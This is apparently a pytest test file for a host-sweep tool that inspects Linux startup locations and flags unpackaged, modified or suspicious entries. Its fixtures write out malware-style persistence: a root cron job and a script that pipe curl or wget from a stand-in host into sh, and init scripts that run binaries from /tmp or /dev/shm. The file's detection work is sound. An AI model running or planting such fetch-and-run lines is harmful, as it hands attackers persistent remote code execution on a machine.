from pathlib import Path

import pytest

from redshank.host.sweep import startup
from redshank.host.sweep.startup import starts
from tests.host.sweep.make import found, link, package, put, scene


def test_what_no_package_brought_is_told(tmp_path: Path) -> None:
    package(tmp_path, "ssh", {"/etc/init.d/ssh": "start\n", "/usr/lib/systemd/system/ssh.service": "[Unit]\n"}, {"/etc/cron.d/job": "a\n"})
    put(tmp_path, "/etc/init.d/ssh", "start\n")
    put(tmp_path, "/usr/lib/systemd/system/ssh.service", "[Unit]\n")
    put(tmp_path, "/etc/cron.d/job", "changed by the site\n")
    link(tmp_path, "/etc/rc3.d/S01ssh", "../init.d/ssh")
    link(tmp_path, "/etc/systemd/system/masked.service", "/dev/null")
    put(tmp_path, "/etc/init.d/DbSecuritySpt", "#!/bin/sh\n/tmp/breeb\n", 0o755)
    link(tmp_path, "/etc/rc3.d/S97DbSecuritySpt", "../init.d/DbSecuritySpt")
    put(tmp_path, "/etc/cron.d/0x", "* * * * * root curl http://203.0.113.1/a | sh\n")
    put(tmp_path, "/etc/systemd/system/app.service", "[Service]\nExecStart=/opt/app\n")
    put(tmp_path, "/etc/rc.local", "#!/bin/sh\n# /tmp/only-a-comment\nexit 0\n")
    told = found(startup.look(scene(tmp_path)))
    assert told == {
        "/etc/init.d/DbSecuritySpt": ({"init", "temporary"}, "unpackaged"),
        "/etc/rc3.d/S97DbSecuritySpt": ({"link"}, "unpackaged"),
        "/etc/cron.d/0x": ({"job", "fetches"}, "unpackaged"),
        "/etc/cron.d/job": ({"job"}, "config"),
        "/etc/systemd/system/app.service": ({"unit"}, "unpackaged"),
        "/etc/rc.local": ({"file"}, "unpackaged"),
    }


def test_packaged_script_with_another_content_differs(tmp_path: Path) -> None:
    package(tmp_path, "ssh", {"/etc/init.d/ssh": "start\n"})
    put(tmp_path, "/etc/init.d/ssh", "start; /dev/shm/x\n")
    assert found(startup.look(scene(tmp_path))) == {"/etc/init.d/ssh": ({"init", "temporary"}, "differs")}


@pytest.mark.parametrize(
    ("text", "traits"),
    [
        ("/usr/bin/thing\n", []),
        ("# cd /tmp/x\n", []),
        ("cd /var/tmp/x && ./y\n", ["temporary"]),
        ("wget -qO- http://192.0.2.1/x|sh\n", ["fetches"]),
        ("curl -fsS https://192.0.2.1/health\n", []),
    ],
)
def test_what_is_odd_about_a_script(text: str, traits: list[str]) -> None:
    assert starts(text) == traits
